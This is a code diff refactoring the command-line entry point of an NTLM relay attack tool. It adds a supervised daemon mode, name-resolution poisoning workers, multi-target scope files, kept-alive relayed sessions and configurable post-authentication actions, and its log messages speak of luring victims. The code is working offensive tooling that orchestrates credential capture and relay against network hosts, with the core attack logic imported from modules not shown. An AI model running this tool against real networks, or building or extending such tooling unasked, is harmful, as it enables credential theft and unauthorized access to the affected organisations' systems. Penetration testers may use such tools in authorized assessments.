@@ -3,24 +3,18 @@ import os
 import sys
 import ctypes
 import logging
-import threading
-import time
 import socket
-import platform
-import subprocess
-import ipaddress
 import argparse
-from scapy.arch import get_if_list
+import functools
 
 # Add the project root directory to Python path
 project_root = os.path.abspath(os.path.join(os.path.dirname(__file__), '..'))
 sys.path.insert(0, project_root)
 
-from src.utils.hash_handler import process_ntlm_hash
-from src.utils.packet_sniffer import start_capture
-from src.modules.exploit.relay import Relay
-from src.utils.mongo_handler import MongoDBHandler
-from src.modules.capture.responder import ResponderCapture
+# Only modules every command needs are imported here; scapy, impacket, pymongo and psutil are
+# loaded by the commands that use them, so `list` and --help do not pay for the relay stack
+from src.modules.exploit.post_auth import DEFAULT_ACTIONS, POST_AUTH_ACTIONS
+from src.utils.supervisor import Supervisor
 
 def is_admin():
     """Check if the script is running with administrator privileges"""
@@ -32,6 +26,7 @@ def is_admin():
 
 def list_interfaces():
     """List available network interfaces"""
+    from scapy.arch import get_if_list
     interfaces = get_if_list()
     print("\nAvailable interfaces:")
     for iface in interfaces:
@@ -67,90 +62,74 @@ def list_results(mongo_handler, logger):
     except Exception as e:
         logger.error(f"Failed to list results: {str(e)}")
 
-def run_poisoning(responder, logger):
-    """Runs the poisoning process in a separate thread."""
-    try:
-        responder.start_poisoning()
-        logger.info("Poisoning servers started.")
-        logger.info(f"HTTP server running on port {responder.auth_ports['http']}")
-        logger.info(f"SMB server running on port {responder.auth_ports['smb']}")
-        # Keep thread alive while poisoning runs
-        while getattr(threading.current_thread(), "do_run", True):
-            time.sleep(1)
-    except PermissionError:
-        logger.error("Permission denied for poisoning. Try running with administrator privileges.")
-    except Exception as e:
-        logger.error(f"Error during poisoning: {str(e)}")
-    finally:
-        logger.info("Stopping poisoning servers...")
-        responder.stop_poisoning()
-
-def run_relaying(relay, logger):
-    """Runs the relaying process in a separate thread."""
-    try:
-        relay.start_relay()
-        logger.info("Relay server started.")
-        # Keep thread alive while relaying runs
-        while getattr(threading.current_thread(), "do_run", True):
-            time.sleep(1)
-    except Exception as e:
-        logger.error(f"Error during relaying: {str(e)}")
-    finally:
-        logger.info("Stopping relay server...")
-        relay.stop_relay()
+def start_poisoning(responder, logger):
+    """Start the poisoning servers and log where they capture authentications"""
+    responder.start_poisoning()
+    logger.info("Poisoning servers started.")
+    logger.info(f"HTTP server running on port {responder.auth_ports['http']}")
+    logger.info(f"SMB server running on port {responder.auth_ports['smb']}")
+
+def supervise(supervisor, logger):
+    """Run the supervised components until Ctrl+C, SIGTERM or a failure and return the exit code"""
+    logger.info("Press Ctrl+C to stop.")
+    exit_code = supervisor.run()
+    if supervisor.failure and isinstance(supervisor.failure[1], PermissionError):
+        logger.error("Permission denied. Try running with administrator privileges.")
+    return exit_code
+
+def relay_options(args):
+    """Keyword arguments of Relay from the command line"""
+    return dict(interface=args.interface, relay_mode=args.relay_mode, target_port=args.target_port,
+                backlog=args.backlog, max_concurrency=args.max_relays, pool_depth=args.pool_depth,
+                proxy_sessions=args.proxy_sessions, proxy_idle_timeout=args.proxy_idle_timeout,
+                keep_sessions=args.keep_sessions, max_sessions=args.max_sessions,
+                session_idle_timeout=args.session_idle_timeout, scope_file=args.scope,
+                schedule=args.schedule, max_per_target=args.max_per_target,
+                post_auth_actions=args.post_auth, post_auth_timeout=args.post_auth_timeout,
+                extra_ports=args.extra_ports, control_socket=args.control_socket)
+
+def build_daemon(args, supervisor):
+    """Pipeline daemon running the relay, the responder and optionally the sniffer as processes"""
+    from src.modules.pipeline.daemon import PipelineDaemon, Subsystem, start_relay, start_responder, start_sniffer
+    # The relay starts before the responder lures victims to it; the responder never waits on a full queue
+    subsystems = [Subsystem('relay', start_relay, dict(relay_options(args), target=args.target), 1.0),
+                  Subsystem('responder', start_responder, {'interface': args.interface, 'workers': args.workers}, 0)]
+    if args.sniff:
+        subsystems.append(Subsystem('sniffer', start_sniffer, {'interface': args.interface}, 0))
+    return PipelineDaemon(subsystems, queue_size=args.queue_size, on_failure=supervisor.fail,
+                          log_level=logging.DEBUG if args.debug else logging.INFO, log_file="ntlm_relay.log")
 
 def validate_target(target, timeout=3):
     """Validate that target is accessible on common relay ports"""
+    from src.utils.target_probe import TargetProbe
     logger = logging.getLogger(__name__)
     
     try:
-        # Resolve hostname to IP if needed
-        try:
-            target_ip = socket.gethostbyname(target)
-            if target_ip != target:
-                logger.info(f"Resolved {target} to {target_ip}")
-        except socket.gaierror:
+        # The report is cached; the relay reads it to pick its SMB port
+        report = TargetProbe.shared().probe(target, timeout=timeout)
+        if report is None:
             logger.error(f"Could not resolve hostname: {target}")
             return False
-        
-        # Check common relay ports
-        ports_to_check = {
-            445: "SMB",
-            139: "NetBIOS-SSN", 
-            80: "HTTP",
-            443: "HTTPS",
-            389: "LDAP",
-            636: "LDAPS"
-        }
-        
-        accessible_ports = []
-        logger.info(f"Checking target accessibility: {target_ip}")
-        
-        for port, service in ports_to_check.items():
-            try:
-                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                sock.settimeout(timeout)
-                result = sock.connect_ex((target_ip, port))
-                sock.close()
-                
-                if result == 0:
-                    accessible_ports.append((port, service))
-                    logger.info(f"  ✓ {service} ({port}) - Accessible")
-                else:
-                    logger.debug(f"  ✗ {service} ({port}) - Not accessible")
-            except Exception as e:
-                logger.debug(f"  ✗ {service} ({port}) - Error: {e}")
-        
+        if report.address != target:
+            logger.info(f"Resolved {target} to {report.address}")
+
+        logger.info(f"Checking target accessibility: {report.address}")
+        for status in report.services.values():
+            if status.reachable:
+                logger.info(f"  ✓ {status.service} ({status.port}) - Accessible")
+            else:
+                logger.debug(f"  ✗ {status.service} ({status.port}) - Not accessible ({status.error})")
+
+        accessible_ports = report.accessible
         if not accessible_ports:
-            logger.error(f"Target {target_ip} has no accessible relay ports!")
+            logger.error(f"Target {report.address} has no accessible relay ports!")
             logger.error("Common relay ports (445-SMB, 80-HTTP, 389-LDAP) are not reachable.")
             logger.error("This target is not suitable for NTLM relay attacks.")
             return False
         
         # Special check for SMB (most common relay target)
-        smb_accessible = any(port in [445, 139] for port, _ in accessible_ports)
-        if smb_accessible:
-            logger.info(f"✓ SMB service detected - Good relay target!")
+        if report.smb_port():
+            logger.info(f"✓ SMB service detected on port {report.smb_port()} - Good relay target!")
         else:
             logger.warning("⚠ No SMB service detected. Limited relay options available.")
         
@@ -163,28 +142,17 @@ def validate_target(target, timeout=3):
 
 def suggest_network_scan(interface):
     """Suggest network scanning to find targets"""
+    from src.utils.network_context import NetworkContext
     logger = logging.getLogger(__name__)
     
     try:
         # Try to determine network range from interface
-        if platform.system() == "Linux":
-            cmd = f"ip route | grep {interface}"
-            result = subprocess.run(cmd, shell=True, capture_output=True, text=True)
-            if result.returncode == 0:
-                for line in result.stdout.split('\n'):
-                    if '/' in line and interface in line:
-                        # Extract network range
-                        parts = line.split()
-                        for part in parts:
-                            if '/' in part:
-                                try:
-                                    network = ipaddress.ip_network(part, strict=False)
-                                    logger.info(f"Detected network range: {network}")
-                                    logger.info(f"Try scanning for targets: python scripts/target_scanner.py {network}")
-                                    return
-                                except:
-                                    continue
-        
+        for network in NetworkContext.shared().networks(interface):
+            if not network.is_loopback:
+                logger.info(f"Detected network range: {network}")
+                logger.info(f"Try scanning for targets: python scripts/target_scanner.py {network}")
+                return
+
         logger.info("To find potential targets, try:")
         logger.info("  python scripts/target_scanner.py 192.168.1.0/24")
         logger.info("  python scripts/target_scanner.py --single-host 192.168.1.100")
@@ -198,29 +166,86 @@ def main():
 
     parser = argparse.ArgumentParser(description='NTLM Relay Tool')
     # Add 'attack' command
-    parser.add_argument('command', choices=['poison', 'relay', 'list', 'attack'], help='Command to execute')
+    parser.add_argument('command', choices=['poison', 'relay', 'list', 'attack', 'daemon'],
+                        help='Command to execute (daemon: attack with each subsystem in its own process)')
     parser.add_argument('--interface', help='Network interface to use')
     parser.add_argument('--target', help='Target IP address for relay or attack mode')
     parser.add_argument('--debug', action='store_true', help='Enable debug logging')
+    parser.add_argument('--workers', type=int, default=0,
+                        help='Answer LLMNR/NBT-NS/MDNS from N SO_REUSEPORT worker processes (0 = threads)')
+    parser.add_argument('--relay-mode', choices=['inprocess', 'subprocess'], default='inprocess',
+                        help='Relay in this process (default) or hand clients to impacket-ntlmrelayx')
+    parser.add_argument('--target-port', type=int,
+                        help='SMB port of the relay target (default: 445, or 139 if only that answers)')
+    parser.add_argument('--backlog', type=int, default=1024, help='Listen backlog of the relay server')
+    parser.add_argument('--extra-ports', default='',
+                        help='Comma-separated ports the relay also listens on, SMB or HTTP (e.g. 139,80,8080)')
+    parser.add_argument('--max-relays', type=int, default=256,
+                        help='Relays talking to the target at the same time')
+    parser.add_argument('--pool-depth', type=int, default=2,
+                        help='Pre-negotiated connections kept open to the relay target (0 = off)')
+    parser.add_argument('--proxy-sessions', action='store_true',
+                        help='Keep successful relays open and proxy the client to the target')
+    parser.add_argument('--proxy-idle-timeout', type=float, default=300.0,
+                        help='Seconds a proxied session may stay idle before it is closed')
+    parser.add_argument('--keep-sessions', action='store_true',
+                        help='Keep relayed sessions authenticated (SMB echo keep-alive) for follow-up jobs')
+    parser.add_argument('--max-sessions', type=int, default=64,
+                        help='Authenticated sessions kept at most with --keep-sessions')
+    parser.add_argument('--session-idle-timeout', type=float, default=900.0,
+                        help='Seconds a kept session may go without a job before it is logged off')
+    parser.add_argument('--scope', help='Scope file of relay targets (host[:port] [priority=N] per line); '
+                                        'targets are then picked per authentication')
+    parser.add_argument('--schedule', choices=['round-robin', 'priority'], default='round-robin',
+                        help='How --scope targets are picked for each authentication')
+    parser.add_argument('--max-per-target', type=int, default=4,
+                        help='Relays in flight to one --scope target at most')
+    parser.add_argument('--post-auth', default=','.join(DEFAULT_ACTIONS),
+                        help=f"Comma-separated actions run on successful relays "
+                             f"(available: {', '.join(POST_AUTH_ACTIONS)}; empty = none)")
+    parser.add_argument('--post-auth-timeout', type=float, default=60.0,
+                        help='Seconds a post-auth action may take unless it sets its own timeout')
+    parser.add_argument('--control-socket',
+                        help='UNIX socket path on which the running relay accepts new targets and options '
+                             '(see scripts/relayctl.py)')
+    parser.add_argument('--sniff', action='store_true', help='Also run the packet sniffer (daemon mode)')
+    parser.add_argument('--queue-size', type=int, default=10000,
+                        help='Records waiting for the storage process at most (daemon mode)')
     args = parser.parse_args()
+    args.post_auth = [name for name in args.post_auth.split(',') if name]
+    try:
+        args.extra_ports = [int(port) for port in args.extra_ports.split(',') if port]
+    except ValueError:
+        parser.error(f"--extra-ports expects comma-separated port numbers, got '{args.extra_ports}'")
+    if args.extra_ports and args.relay_mode == 'subprocess':
+        parser.error("--extra-ports needs --relay-mode inprocess")
+    unknown = [name for name in args.post_auth if name not in POST_AUTH_ACTIONS]
+    if unknown:
+        parser.error(f"unknown --post-auth action(s): {', '.join(unknown)}")
+    if args.control_socket and not hasattr(socket, 'AF_UNIX'):
+        parser.error("--control-socket needs UNIX domain sockets, which this platform lacks")
+
+    if args.target:
+        # Resolve the target and its NetBIOS name while MongoDB and the interfaces are set up
+        from src.utils.name_resolver import NameResolver
+        NameResolver.shared().prefetch(args.target)
 
     if args.debug:
         logger.setLevel(logging.DEBUG)
     
-    # Initialize MongoDB
+    # Initialize MongoDB (in daemon mode only the storage process connects)
     mongo_db = None # Initialize to None
-    try:
-        mongo_db = MongoDBHandler()
-        logger.info("MongoDB connection established")
-    except Exception as e:
-        logger.error(f"Failed to connect to MongoDB: {e}")
-        # Allow continuing without DB for some commands if necessary, but attack needs it implicitly
-        # return # Or handle differently depending on requirements
+    if args.command != 'daemon':
+        try:
+            from src.utils.mongo_handler import MongoDBHandler
+            mongo_db = MongoDBHandler()
+            logger.info("MongoDB connection established")
+        except Exception as e:
+            logger.error(f"Failed to connect to MongoDB: {e}")
+            # Allow continuing without DB for some commands if necessary, but attack needs it implicitly
+            # return # Or handle differently depending on requirements
 
-    poison_thread = None
-    relay_thread = None
-    responder = None
-    relay = None
+    exit_code = 0
 
     try:
         if args.command == 'poison':
@@ -230,24 +255,12 @@ def main():
                 return
 
             logger.info(f"Starting Responder poisoning on interface {args.interface}...")
-            try:
-                responder = ResponderCapture(interface=args.interface)
-                responder.start_poisoning()
-                logger.info("Poisoning servers started. Press Ctrl+C to stop.")
-                logger.info(f"HTTP server running on port {responder.auth_ports['http']}")
-                logger.info(f"SMB server running on port {responder.auth_ports['smb']}")
-                while True:
-                    time.sleep(1)
-            except PermissionError:
-                logger.error("Permission denied. Try running with administrator privileges.")
-                return
-            except KeyboardInterrupt:
-                logger.info("Stopping poisoning servers...")
-            except Exception as e:
-                logger.error(f"Failed to start poisoning: {str(e)}")
-            finally:
-                if responder:
-                    responder.stop_poisoning()
+            from src.modules.capture.responder import ResponderCapture
+            responder = ResponderCapture(interface=args.interface, workers=args.workers)
+            supervisor = Supervisor('poison')
+            supervisor.add('poisoning', functools.partial(start_poisoning, responder, logger),
+                           responder.stop_poisoning)
+            exit_code = supervise(supervisor, logger)
 
         elif args.command == 'relay':
             if not args.interface:
@@ -255,34 +268,28 @@ def main():
                 list_interfaces()
                 return
 
-            if not args.target:
-                logger.error("Target IP is required for relay mode")
+            if not args.target and not args.scope:
+                logger.error("Target IP or --scope is required for relay mode")
                 suggest_network_scan(args.interface)
                 return
 
             # Validate target accessibility before starting relay
-            logger.info(f"Validating target {args.target}...")
-            if not validate_target(args.target):
-                logger.error("Target validation failed. Relay cannot be started.")
-                suggest_network_scan(args.interface)
-                return
-
-            logger.info(f"Starting NTLM relay on interface {args.interface} targeting {args.target}...")
-            try:
-                relay = Relay(interface=args.interface)
+            if args.target:
+                logger.info(f"Validating target {args.target}...")
+                if not validate_target(args.target):
+                    logger.error("Target validation failed. Relay cannot be started.")
+                    suggest_network_scan(args.interface)
+                    return
+
+            logger.info(f"Starting NTLM relay on interface {args.interface} targeting "
+                        f"{args.target or 'scope ' + args.scope}...")
+            from src.modules.exploit.relay import Relay
+            relay = Relay(**relay_options(args))
+            if args.target:
                 relay.set_target(args.target)
-                relay.start_relay()
-                logger.info("Relay server started. Press Ctrl+C to stop.")
-                # Keep the main thread running
-                while True:
-                    time.sleep(1)
-            except KeyboardInterrupt:
-                logger.info("Stopping relay server...")
-            except Exception as e:
-                logger.error(f"Failed to start relay: {str(e)}")
-            finally:
-                if relay:
-                    relay.stop_relay()
+            supervisor = Supervisor('relay')
+            supervisor.add('relay', relay.start_relay, relay.stop_relay)
+            exit_code = supervise(supervisor, logger)
 
         elif args.command == 'list':
             if not mongo_db:
@@ -295,8 +302,8 @@ def main():
                 logger.error("Interface is required for attack mode")
                 list_interfaces()
                 return
-            if not args.target:
-                logger.error("Target IP is required for attack mode")
+            if not args.target and not args.scope:
+                logger.error("Target IP or --scope is required for attack mode")
                 suggest_network_scan(args.interface)
                 return
             if not mongo_db:
@@ -304,81 +311,73 @@ def main():
                 return
 
             # Validate target accessibility before starting attack
-            logger.info(f"Validating target {args.target}...")
-            if not validate_target(args.target):
-                logger.error("Target validation failed. Attack cannot be started.")
-                suggest_network_scan(args.interface)
-                return
-
-            logger.info(f"Starting Attack mode: Poisoning on {args.interface} and Relaying to {args.target}...")
-
-            try:
-                # Setup Responder
-                responder = ResponderCapture(interface=args.interface)
-
-                # Setup Relay
-                relay = Relay(interface=args.interface)
+            if args.target:
+                logger.info(f"Validating target {args.target}...")
+                if not validate_target(args.target):
+                    logger.error("Target validation failed. Attack cannot be started.")
+                    suggest_network_scan(args.interface)
+                    return
+
+            logger.info(f"Starting Attack mode: Poisoning on {args.interface} and Relaying to "
+                        f"{args.target or 'scope ' + args.scope}...")
+
+            from src.modules.capture.responder import ResponderCapture
+            from src.modules.exploit.relay import Relay
+            responder = ResponderCapture(interface=args.interface, workers=args.workers)
+            relay = Relay(**relay_options(args))
+            if args.target:
                 relay.set_target(args.target)
 
-                # Start poisoning in a thread
-                poison_thread = threading.Thread(target=run_poisoning, args=(responder, logger), daemon=True)
-                poison_thread.do_run = True # Flag to control thread loop
-                poison_thread.start()
-
-                # Start relaying in a thread
-                relay_thread = threading.Thread(target=run_relaying, args=(relay, logger), daemon=True)
-                relay_thread.do_run = True # Flag to control thread loop
-                relay_thread.start()
-
-                logger.info("Attack mode initiated. Poisoning and Relaying are running concurrently. Press Ctrl+C to stop.")
-
-                # Keep main thread alive
-                while True:
-                    # Check if threads are still alive
-                    if not poison_thread.is_alive() or not relay_thread.is_alive():
-                        logger.warning("One of the attack threads has stopped unexpectedly.")
-                        break
-                    time.sleep(1)
-
-            except PermissionError:
-                 logger.error("Permission denied. Try running with administrator privileges.")
-            except KeyboardInterrupt:
-                logger.info("Attack interrupted by user. Stopping services...")
-            except Exception as e:
-                logger.error(f"Failed to start attack mode: {str(e)}")
-            finally:
-                # Signal threads to stop
-                if poison_thread:
-                    poison_thread.do_run = False
-                    # Wait briefly for thread to stop gracefully
-                    poison_thread.join(timeout=2)
-                if relay_thread:
-                    relay_thread.do_run = False
-                     # Wait briefly for thread to stop gracefully
-                    relay_thread.join(timeout=2)
-                logger.info("Attack mode finished.")
+            # The relay is ready before victims are lured to it, and poisoning stops first on shutdown
+            supervisor = Supervisor('attack')
+            supervisor.add('relay', relay.start_relay, relay.stop_relay)
+            supervisor.add('poisoning', functools.partial(start_poisoning, responder, logger),
+                           responder.stop_poisoning)
+            exit_code = supervise(supervisor, logger)
 
+        elif args.command == 'daemon':
+            if not args.interface:
+                logger.error("Interface is required for daemon mode")
+                list_interfaces()
+                return
+            if not args.target and not args.scope:
+                logger.error("Target IP or --scope is required for daemon mode")
+                suggest_network_scan(args.interface)
+                return
+
+            if args.target:
+                logger.info(f"Validating target {args.target}...")
+                if not validate_target(args.target):
+                    logger.error("Target validation failed. Daemon cannot be started.")
+                    suggest_network_scan(args.interface)
+                    return
+
+            logger.info(f"Starting daemon mode: storage, relay, responder{' and sniffer' if args.sniff else ''} "
+                        f"processes on {args.interface}, relaying to {args.target or 'scope ' + args.scope}...")
+            supervisor = Supervisor('daemon')
+            daemon = build_daemon(args, supervisor)
+            # Storage starts first and stops last, so it writes what the other processes queued
+            supervisor.add('pipeline', daemon.open, daemon.close)
+            for name in daemon.names():
+                supervisor.add(name, functools.partial(daemon.start_process, name),
+                               functools.partial(daemon.stop_process, name))
+            exit_code = supervise(supervisor, logger)
 
     except KeyboardInterrupt:
         logger.info("Exiting...")
+        exit_code = 130
     except Exception as e:
         logger.error(f"Unhandled error in main: {str(e)}")
+        exit_code = 1
     finally:
-        # Ensure threads are stopped even if main loop exits unexpectedly
-        if poison_thread and poison_thread.is_alive():
-             poison_thread.do_run = False
-             poison_thread.join(timeout=1)
-        if relay_thread and relay_thread.is_alive():
-             relay_thread.do_run = False
-             relay_thread.join(timeout=1)
-
         if mongo_db:
             mongo_db.disconnect()
             logger.info("MongoDB connection closed.")
+    return exit_code
 
 
 if __name__ == "__main__":
     if not is_admin():
         print("This script requires administrator privileges")
         sys.exit(1)
-    main()
\ No newline at end of file
+    sys.exit(main())
\ No newline at end of file